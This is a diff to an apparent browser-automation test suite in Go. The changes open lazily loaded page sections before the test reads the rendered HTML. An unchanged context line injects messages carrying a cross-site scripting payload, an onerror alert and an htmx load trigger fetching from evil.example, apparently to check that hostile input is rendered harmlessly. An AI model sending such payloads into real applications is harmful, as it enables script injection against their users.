@@ -439,6 +439,7 @@ func (h *hostile) walk(kind, path string, most int) {
 	h.t.Helper()
 	for range most {
 		h.read(kind, path)
+		h.open(kind)
 		next, err := chromedp.Run(
 			h.b.ctx,
 			chromedp.Evaluate[string](`[...document.querySelectorAll('main a[href*="after="], a.btn[href*="after="]')].map(a => a.getAttribute("href")).pop() || ""`),
@@ -448,6 +449,20 @@ func (h *hostile) walk(kind, path string, most int) {
 		}
 		path = next
 	}
+}
+
+// openAll opens what is loaded when it is opened.
+var openAll = chromedp.Evaluate[chromedp.Void](`for (const d of document.querySelectorAll("details:has([data-loads])")) d.open = true`)
+
+// open opens what a page shows only then, and reads it.
+func (h *hostile) open(kind string) {
+	h.t.Helper()
+	if h.b.number(`document.querySelectorAll("details [data-loads]").length`) == 0 {
+		return
+	}
+	h.b.do(openAll)
+	h.b.until("what is loaded then", func() bool { return h.b.number(`document.querySelectorAll("details [data-loads]").length`) == 0 })
+	h.reads[kind].WriteString(h.b.inspect())
 }
 
 // eachMessage reads the page of every third message, so that each family has its
@@ -495,6 +510,7 @@ func (h *hostile) whileThePageIsOpen(device postern.DeviceID) {
 		text := fmt.Sprintf(`<img src=x onerror=alert(%d)><div hx-get=//evil.example hx-trigger=load>live %d`, i, i)
 		inbound(h.c, device, text)
 		testkit.Eventually(h.t, "what is written meanwhile on "+path, func() (bool, any) {
+			h.b.do(openAll)
 			got := h.b.inspect()
 			return strings.Contains(got, fmt.Sprintf("live %d", i)), nil
 		})
